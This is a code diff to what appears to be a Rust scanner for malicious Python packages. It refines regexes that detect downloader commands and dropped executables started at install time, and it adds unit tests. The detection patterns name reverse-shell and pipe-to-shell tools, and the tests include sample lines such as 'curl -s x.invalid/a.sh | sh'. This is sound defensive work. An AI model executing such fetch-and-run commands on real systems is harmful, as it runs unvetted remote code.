@@ -57,7 +57,7 @@ pub fn is_spawn(qualname: &str) -> bool {
 /// Shell fragments that fetch or decode a second stage: the core vocabulary of droppers.
 static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
     r"(?ix)
-    \b(curl|wget|invoke-webrequest|iwr|invoke-expression|iex|downloadstring|downloadfile|certutil|bitsadmin
+    \b(invoke-webrequest|iwr|invoke-expression|iex|downloadstring|downloadfile|certutil|bitsadmin
       |mshta|start-bitstransfer|invoke-restmethod)\b
     | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode) | -encodedcommand | \s-enc\s
     | https?://\S+\.(exe|scr|msi|bat|ps1|vbs|hta|jar|dll)\b
@@ -95,9 +95,26 @@ pub fn is_recon_exfiltration(command: &str) -> bool {
     RECON_SUBSTITUTION.is_match(command) && NETWORK_TOOL.is_match(command)
 }
 
+/// curl and wget fetch something only when given a target: `curl --version` probes for the tool.
+static FETCH_TOOL: LazyLock<Regex> = crate::static_regex!(r"(?i)\b(curl|wget)\b");
+static FETCH_TARGET: LazyLock<Regex> = crate::static_regex!(r"(?i)://|\s-[a-z]*[oO]\b|--output|\|");
+
 /// True when a command line fetches or decodes a second stage.
 pub fn is_dangerous_command(command: &str) -> bool {
     DOWNLOADER_COMMAND.is_match(command)
+        || FETCH_TOOL.is_match(command) && FETCH_TARGET.is_match(command)
+}
+
+/// A command that starts a program file the package dropped or fetched: a Windows executable
+/// or script, or a script under /tmp.
+fn starts_dropped_file(command: &str) -> bool {
+    static DROPPED: LazyLock<Regex> = crate::static_regex!(
+        r#"(?ix)
+        (^|[\s"'/\\])[^\s"']+\.(exe|vbs|vbe|bat|cmd|ps1|scr|hta|pyw)(\s|"|'|$)
+        | ^\s*(ba|z)?sh\s+/tmp/ | ^\s*/tmp/\S+
+        "#
+    );
+    DROPPED.is_match(command)
 }
 
 /// `python -c ...`, `pythonw x.pyw`: a command that starts another Python interpreter.
@@ -290,7 +307,11 @@ fn classify_command(
             match context {
                 // A second Python interpreter started in the background while loading runs
                 // code the package does not show: the payload lives elsewhere.
-                ExecContext::Install | ExecContext::Import if starts_interpreter(command) => 0.7,
+                ExecContext::Install | ExecContext::Import
+                    if starts_interpreter(command) || starts_dropped_file(command) =>
+                {
+                    0.7
+                }
                 ExecContext::Install | ExecContext::Import => 0.55,
                 ExecContext::Runtime => 0.12,
                 ExecContext::TestOrDocs => 0.05,
@@ -386,6 +407,27 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.7);
         let code = "import subprocess\ndef f():\n    subprocess.Popen('python -c \"import helper\"', shell=True)\n";
         assert!(max_severity("p/pkg/m.py", code, "WH120") < 0.2);
+    }
+
+    #[test]
+    fn probing_for_curl_is_not_a_download() {
+        assert!(!is_dangerous_command("curl --version"));
+        assert!(!is_dangerous_command("wget --version"));
+        assert!(is_dangerous_command("curl -L {file} -O"));
+        assert!(is_dangerous_command("wget -q https://x.invalid/a"));
+        assert!(is_dangerous_command("curl -s x.invalid/a.sh | sh"));
+    }
+
+    #[test]
+    fn dropped_programs_started_while_installing_are_severe() {
+        assert!(starts_dropped_file("C:\\Windows\\Temp\\Alistener.exe"));
+        assert!(starts_dropped_file("./pip_installer.exe"));
+        assert!(starts_dropped_file("bash /tmp/start.sh"));
+        assert!(starts_dropped_file("wscript main.scripts.cpython-39.vbs"));
+        assert!(!starts_dropped_file("gcc -o foo foo.c"));
+        assert!(!starts_dropped_file("git describe"));
+        let code = "import subprocess\nsubprocess.Popen('C:\\\\Temp\\\\x.exe')\n";
+        assert!(max_severity("p/setup.py", code, "WH120") >= 0.7);
     }
 
     #[test]
